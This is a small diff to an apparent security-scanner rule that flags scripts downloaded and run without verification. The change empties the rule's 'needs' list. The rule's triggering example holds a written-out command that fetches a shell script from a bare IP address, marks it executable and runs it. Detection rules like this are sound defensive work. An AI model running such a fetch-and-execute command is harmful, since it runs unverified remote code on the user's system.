@@ -36,7 +36,7 @@ export default defineRule({
   remediation:
     'Check the file against a published digest or signature before it runs, or use a package with a pinned version.',
   harmlessIf: 'the address belongs to the maker of the tool and the file is checked before it runs',
-  needs: [['fetcher', 'url']],
+  needs: [],
   examples: {
     fires: [
       '```bash\ncurl -o /tmp/a.sh http://203.0.113.9/a.sh\nchmod +x /tmp/a.sh\n/tmp/a.sh\n```\n',
